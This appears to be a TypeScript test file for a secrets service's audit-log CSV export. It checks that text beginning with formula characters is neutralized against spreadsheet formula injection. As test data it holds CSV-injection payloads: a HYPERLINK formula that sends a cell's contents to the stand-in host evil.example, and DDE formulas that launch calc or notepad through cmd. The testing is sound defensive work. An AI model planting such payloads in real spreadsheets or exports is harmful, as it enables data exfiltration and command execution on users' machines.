import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { describeEachDialect } from '../../../test/helpers/each-dialect.ts';
import { collect, parseCsv } from '../../../test/helpers/exports.ts';
import { createHarness, type Harness } from '../../../test/helpers/harness.ts';
import { userContext } from '../../../test/helpers/identities.ts';
import type { TenantContext } from '../shared/context.ts';
import { fromRow } from './audit-log.ts';
import { chainHash } from './chain.ts';
import { AUDIT_CSV_COLUMNS, auditCsvRecord, csvField } from './csv.ts';
import { auditEvent } from './sinks/testing.ts';
import type { AuditEvent } from './event.ts';

/** What makes a spreadsheet run a cell (OWASP CSV injection), and the ' that marks an added prefix. */
const DANGEROUS = ['=', '+', '-', '@', '\t', '\r', "'"];
const payload = (c: string) => `${c}HYPERLINK("https://evil.example/?d="&A1,"open")`;
const col = (name: (typeof AUDIT_CSV_COLUMNS)[number]) => AUDIT_CSV_COLUMNS.indexOf(name);
/** Text columns: every column but seq and secret_version (numbers) and context (JSON, so it starts with "{"). */
const TEXT_COLUMNS = AUDIT_CSV_COLUMNS.filter((c) => !['seq', 'secret_version', 'context'].includes(c));
/** Text that starts a formula after a separator a ';' spreadsheet splits on. */
const SEPARATED = ["ua;=cmd|' /C notepad'!A0;", 'x;@SUM(1+1)', 'line\n=1+1', 'crlf\r\n+1', 'q;"=2+2"'];

test('a field starting with = + - @ TAB CR or \' gets a leading \' and quotes; only the first character counts', () => {
  for (const c of DANGEROUS) {
    assert.equal(csvField(`${c}1+1`), `"'${c}1+1"`, JSON.stringify(c));
    assert.deepEqual(parseCsv(csvField(payload(c)) + '\r\n'), [[`'${payload(c)}`]], 'still RFC 4180: inner quotes doubled');
  }
  assert.deepEqual(['a-b', 'x=1', ' =1', '', '{"k":"=1"}'].map(csvField), ['a-b', 'x=1', ' =1', '', '"{""k"":""=1""}"']);
});

test('numbers are written as they are, negative ones too: a number cannot carry a formula', () => {
  assert.deepEqual([1, 42, -1, 0, null].map(csvField), ['1', '42', '-1', '0', '']);
  assert.equal(csvField('-1'), `"'-1"`, 'the same characters as text are neutralized');
});

/**
 * Where a spreadsheet may start a cell inside a CSV line: at a field's start, and where its list
 * separator is ";" (Excel in most of continental Europe) after every ";" and line break, quotes or not.
 */
const cellStarts = (csv: string) => csv.split(/[;\r\n]/).slice(1);
/** Undoes the rule: one ' off the start of a text field and off the start of every cell inside it. */
const undo = (field: string) => field.replace(/(^|[;\r\n])'/g, '$1');

test("a formula character right after a ';' or a line break inside a text field gets a ' too, and the rule undoes exactly", () => {
  const cases: Array<[string, string]> = [
    ["agent;=cmd|' /C calc'!A0;", "agent;'=cmd|' /C calc'!A0;"],
    ['a;+1;-1;@SUM(A1);\t1', "a;'+1;'-1;'@SUM(A1);'\t1"],
    ["it's;'quoted'", "it's;''quoted'"],
    ['name\n=1+1', `"name\n'=1+1"`],
    ['a\r\n-1', `"a\r\n'-1"`],
    ['a;"=1+1"', `"a;'""=1+1"""`],
    ['a;b; c', 'a;b; c'],
  ];
  for (const [stored, written] of cases) {
    assert.equal(csvField(stored), written, JSON.stringify(stored));
    const [[parsed]] = parseCsv(csvField(stored) + '\r\n') as [[string]];
    assert.equal(undo(parsed), stored, `${JSON.stringify(stored)} comes back`);
    assert.deepEqual(cellStarts(csvField(stored)).filter((c) => /^[=+\-@\t"]/.test(c)), [], `${JSON.stringify(stored)}: no cell a ';' spreadsheet would run`);
  }
});

test("the context column escapes a dangerous ';' the JSON way and leaves an everyday one alone", () => {
  const context = { userAgent: 'Mozilla/5.0 (X11; Linux x86_64)', justification: 'see;=HYPERLINK(1);"x' };
  const record = auditCsvRecord(auditEvent(1, { context }));
  const field = parseCsv(record)[0]![col('context')]!;
  assert.ok(field.includes('(X11; Linux x86_64)'), field);
  assert.ok(field.includes('see\\u003b=HYPERLINK(1);\\"x'), field);
  assert.deepEqual(JSON.parse(field), context);
  assert.deepEqual(cellStarts(record).filter((c) => /^[=+\-@\t"]/.test(c)), []);
});

test('a stored time no date can hold (a row written by hand) is written as stored, not thrown: the export goes on', () => {
  for (const time of [8.64e15 + 1, -8.64e15 - 1]) {
    const record = auditCsvRecord(auditEvent(1, { time }));
    assert.equal(parseCsv(record)[0]![col('time')], String(time).startsWith('-') ? `'${time}` : String(time));
  }
  assert.equal(parseCsv(auditCsvRecord(auditEvent(1, { time: 0 })))[0]![col('time')], '1970-01-01T00:00:00.000Z');
});

describeEachDialect('audit CSV export: attacker-chosen text never becomes a spreadsheet formula', (dialect) => {
  let h: Harness;
  let tenantId: string;
  let auditor: { id: string; ctx: () => TenantContext };

  before(async () => {
    h = await createHarness(dialect);
    tenantId = h.ctx.tenantId;
    auditor = await userContext(h, tenantId, 'csv-auditor');
    await h.services.grants.create(h.ctx, { principalType: 'user', principalId: auditor.id, role: 'auditor' });
    // Services validate most names; the export must be safe whatever reaches the table, so every text column is hostile here.
    // And text that opens a cell mid-field where the list separator is ";": after a ";" or a line break.
    await h.services.audit.record(SEPARATED.map((text) => ({
      tenantId,
      actor: { type: 'user', id: text },
      action: 'csv.separated',
      resource: { type: 'secret', id: text, name: text },
      environment: text,
      secretVersion: 1,
      outcome: 'denied',
      reason: text,
      context: { userAgent: text, justification: `why${text}` },
    })));
    await h.services.audit.record(DANGEROUS.map((c, i) => ({
      tenantId,
      actor: { type: `${c}user` as AuditEvent['actor']['type'], id: payload(c) },
      action: 'csv.hostile',
      resource: { type: `${c}secret`, id: payload(c), name: payload(c) },
      environment: payload(c),
      secretVersion: i + 1,
      outcome: `${c}denied` as AuditEvent['outcome'],
      reason: payload(c),
      context: { userAgent: payload(c), [`${c}key`]: payload(c) },
    })));
  });
  after(() => h.close());

  const hostile = async () => (await h.storage.db.selectFrom('audit_events').selectAll().where('action', '=', 'csv.hostile').orderBy('seq').execute()).map(fromRow);

  test('every text column that starts with a formula character comes out behind a \' and parses back to the stored text', async () => {
    const csv = await collect(await h.services.auditQueries.export(auditor.ctx(), { action: 'csv.hostile' }, 'csv'));
    const [header, ...records] = parseCsv(csv);
    assert.deepEqual(header, [...AUDIT_CSV_COLUMNS]);
    const stored = await hostile();
    assert.equal(records.length, DANGEROUS.length);
    for (const [i, r] of records.entries()) {
      const c = DANGEROUS[i]!;
      const e = stored[i]!;
      assert.deepEqual(r.filter((f) => /^[=+\-@\t\r]/.test(f)), [], `${JSON.stringify(c)}: no cell a spreadsheet would run`);
      for (const name of ['actor_id', 'resource_id', 'resource_name', 'environment', 'reason'] as const) {
        assert.equal(r[col(name)], `'${payload(c)}`, `${JSON.stringify(c)} ${name}`);
      }
      assert.deepEqual([r[col('actor_type')], r[col('resource_type')], r[col('outcome')]], [`'${e.actor.type}`, `'${e.resource.type}`, `'${e.outcome}`]);
      assert.ok(csv.includes(`,"'${payload(c).replaceAll('"', '""')}",`), 'the neutralized field is quoted');
      // Undoing the rule (one leading ' off every text field that has one) gives back the stored text.
      const unprefixed = (name: (typeof TEXT_COLUMNS)[number]) => r[col(name)]!.replace(/^'/, '');
      assert.deepEqual(TEXT_COLUMNS.map(unprefixed), [
        e.id, new Date(e.time).toISOString(), e.tenantId, e.actor.type, e.actor.id, e.action, e.resource.type, e.resource.id,
        e.resource.name, e.environment, e.outcome, e.reason, e.prevHash, e.hash,
      ]);
      assert.deepEqual([r[col('seq')], r[col('secret_version')]], [String(e.seq), String(i + 1)], 'numbers untouched');
      assert.ok(r[col('context')]!.startsWith('{'), 'the context column is JSON, which no spreadsheet runs');
      assert.deepEqual(JSON.parse(r[col('context')]!), e.context, 'context values as stored, no prefix inside the JSON');
    }
  });

  test("text that a ';' spreadsheet would start a cell in (after a ';' or a line break) never begins a formula there, and comes back by the rule", async () => {
    const csv = await collect(await h.services.auditQueries.export(auditor.ctx(), { action: 'csv.separated' }, 'csv'));
    assert.deepEqual(cellStarts(csv).filter((c) => /^[=+\-@\t"]/.test(c)), [], 'no cell starting with a formula character anywhere in the file');
    const records = parseCsv(csv).slice(1);
    const stored = (await h.storage.db.selectFrom('audit_events').selectAll().where('action', '=', 'csv.separated').orderBy('seq').execute()).map(fromRow);
    assert.equal(records.length, SEPARATED.length);
    for (const [i, r] of records.entries()) {
      const e = stored[i]!;
      assert.deepEqual((['actor_id', 'resource_id', 'resource_name', 'environment', 'reason'] as const).map((n) => undo(r[col(n)]!)), Array(5).fill(SEPARATED[i]));
      assert.deepEqual(JSON.parse(r[col('context')]!), e.context, 'the JSON context parses back to the stored values');
    }
  });

  test('the JSON lines export keeps the stored events exactly: each still hashes to its chain hash', async () => {
    const lines = (await collect(await h.services.auditQueries.export(auditor.ctx(), { action: 'csv.hostile' }, 'json'))).split('\n');
    assert.equal(lines.pop(), '');
    const exported = lines.map((l) => JSON.parse(l) as AuditEvent);
    assert.deepEqual(exported, await hostile());
    assert.deepEqual(exported.map((e) => e.resource.name), DANGEROUS.map(payload), 'no prefix in JSON');
    for (const e of exported) assert.equal(chainHash(e.prevHash, e), e.hash);
    assert.equal((await h.services.audit.verify()).ok, true);
  });

  test('a user agent sent over HTTP that starts with = is exported as sent, inside the JSON context column', async () => {
    const agent = '=cmd|\' /C calc\'!A0';
    const headers = { authorization: `Bearer ${h.rootToken}`, 'user-agent': agent };
    await h.services.secrets.create(h.ctx, { name: 'AGENT_READ', owner: 'ops' });
    await h.services.values.write(h.ctx, 'AGENT_READ', 'production', { value: 'csv-agent-canary' });
    const read = await h.app.inject({ method: 'GET', url: '/v1/secrets/AGENT_READ/values/production', headers });
    assert.equal(read.statusCode, 200, read.body);
    const res = await h.app.inject({ method: 'GET', url: '/v1/audit/export?format=csv', headers: { authorization: `Bearer ${h.rootToken}` } });
    assert.equal(res.statusCode, 200);
    const records = parseCsv(res.body).slice(1);
    const withAgent = records.filter((r) => r[col('context')]!.includes('calc'));
    assert.equal(withAgent.length, 1, 'the read was audited with its user agent');
    assert.ok(withAgent[0]![col('context')]!.startsWith('{'));
    assert.equal(JSON.parse(withAgent[0]![col('context')]!).userAgent, agent);
  });
});
